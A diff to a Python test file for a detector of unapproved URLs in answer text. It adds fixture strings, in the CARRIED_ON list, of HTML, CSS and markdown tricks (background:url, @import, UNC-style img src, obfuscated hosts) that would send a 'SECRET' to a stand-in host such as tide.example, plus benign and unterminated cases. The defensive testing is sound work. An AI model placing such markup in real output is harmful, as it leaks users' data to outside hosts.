@@ -128,7 +128,10 @@ CARRIED_ON = [
     "tide.example/c?q=)(fakesoft.com/SECRET)", '<img alt=">" src="//2130706433/a">', "<img alt='<' src=//2130706433/a>",
     "<img srcset='a 1x, //fake/a 2x'>", "<table background=//fake/a", "<img src='\\\\fake\\a'>",
     '<img src="\x01//fake/a">', "<style>@import '//fake/a'", "\\href{//fake/a}{x}", "_http://0x7f.1/a",
-    "1http://fake/a", "\u00e9http://fake/a", "![](<//fake/a\\<b>)", "<https:fake/a>",
+    "1http://fake/a",
+    "<p style=\";background:url('https://tide.example/c?q= SECRET')\">",
+    "<style>@import 'https://tide.example/c?q= SECRET'", "<img src=\\\\https://tide.example/c?q=>",
+    "\u00e9http://fake/a", "![](<//fake/a\\<b>)", "<https:fake/a>",
 ]  # fmt: skip
 
 
@@ -144,11 +147,24 @@ def test_nothing_is_carried_on_behind_an_address_of_the_evidence(text: str) -> N
     [
         "[one](https://web.example/)[two](https://web.example/).", "[https://web.example/](https://web.example/)",
         "the [form](https://web.example/)'s end", "(see https://web.example/)[12]", "[a](https://web.example/a_(b))",
-        "[![map](https://web.example/)](https://web.example/)", "7//2 and a / b // c", "mailto:", "see data: and file:",
+        "[![map](https://web.example/)](https://web.example/)", 
+        "<a href='https://web.example/a_(b)'>a, b</a>",
+        "<a href=https://web.example/>", "x <y and z = 'https://web.example/'", "a <b and c='x",
+        "7//2 and a / b // c", "mailto:", "see data: and file:",
     ],
 )  # fmt: skip
 def test_what_surrounds_an_address_is_no_part_of_it(text: str) -> None:
     assert foreign_urls(text, [*EVIDENCE, "https://web.example/a_(b)"]) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["![](<https://web.example/", "[a]: <https://web.example/ ", '<img alt=x src="https://web.example/', "<b a='//x"],
+)
+def test_a_target_that_does_not_end_may_not_stand(text: str) -> None:
+    """Whatever an answer says next becomes a part of it."""
+    assert foreign_urls(text, [*EVIDENCE, text])
+    assert not foreign_urls(without_foreign_urls(text, text), [text])
 
 
 @pytest.mark.parametrize("piece", ["](", "](http:", "](<", "[a](https://a(", "http://a)[1]", "//a", "=//a<b ", "<a:"])
